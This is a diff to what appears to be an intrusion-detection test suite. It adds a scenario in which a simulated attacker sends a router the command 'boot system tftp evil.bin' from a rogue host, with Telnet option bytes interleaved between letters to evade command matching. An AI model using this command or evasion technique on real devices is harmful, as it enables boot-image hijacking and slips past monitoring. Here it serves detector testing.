@@ -122,3 +122,21 @@ def bw07_banner_and_rubbed_password(wire: Wire) -> None:
     session.typed(f"alias exec evil boot system {EVIL}")
     session.typed(f"default boot system {EVIL}")
     session.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005070, ATTACKER, DEVICE),)),
+    site=HQ,
+    with_site=Expect((command(),), (Alert(1542107000, ATTACKER, DEVICE),)),
+)
+def bw07_options_between_letters(wire: Wire) -> None:
+    """Telnet's own commands stand between the letters of a command: a terminal's type, a window's size."""
+    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
+    session.login()
+    between = (b"\xff\xf1", b"\xff\xfb\x18", b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
+    line = f"boot system tftp evil.bin {ROGUE}"
+    session.tcp.send(b"".join(c.encode() + between[n % 3] for n, c in enumerate(line)) + b"\r\0")
+    session.tcp.reply(f"{line}\r\nedge1(config)#".encode())
+    session.close()
